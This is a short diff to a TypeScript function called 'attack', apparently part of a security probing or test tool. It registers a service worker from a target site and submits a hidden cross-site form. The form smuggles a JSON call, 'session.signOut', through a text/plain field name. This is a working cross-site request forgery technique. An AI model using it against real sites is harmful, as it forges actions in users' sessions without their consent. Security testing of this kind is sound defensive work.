@@ -148,8 +148,8 @@ async function attack({ target, script: file }: { target: string; script: string
   }
   if (await navigator.serviceWorker?.register(`${target}/assets/${file}`).then(() => true, () => false)) loaded.push('service worker');
 
-  const form = Object.assign(document.createElement('form'), { action: `${target}/bridge/call`, method: 'post', enctype: 'text/plain', target: 'hole' });
-  const hole = Object.assign(document.createElement('iframe'), { name: 'hole' });
+  const form = Object.assign(document.createElement('form'), { action: `${target}/bridge/call`, method: 'post', enctype: 'text/plain', target: `hole ${target}` });
+  const hole = Object.assign(document.createElement('iframe'), { name: `hole ${target}` });
   form.append(Object.assign(document.createElement('input'), { name: '{"name":"session.signOut","input":{},"x":"', value: '"}' }));
   document.body.append(hole, form);
   await soon((done) => { hole.onload = () => { done(true); }; form.submit(); });
